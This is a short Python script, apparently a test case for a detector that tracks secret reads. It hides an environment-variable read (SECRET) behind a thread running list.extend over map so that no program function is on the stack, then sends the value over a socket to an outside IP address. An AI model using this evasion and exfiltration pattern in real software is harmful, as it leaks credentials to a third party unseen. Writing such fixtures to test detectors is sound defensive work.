"""A thread whose target is a list's extend, which calls os.getenv through map: no function of the program is on its stack."""
import os
import socket
import threading

found = []
thread = threading.Thread(target=found.extend, args=(map(os.getenv, ["SECRET"]),))
thread.start()
thread.join()
socket.create_connection(("93.184.216.35", 9000)).sendall(found[0].encode())
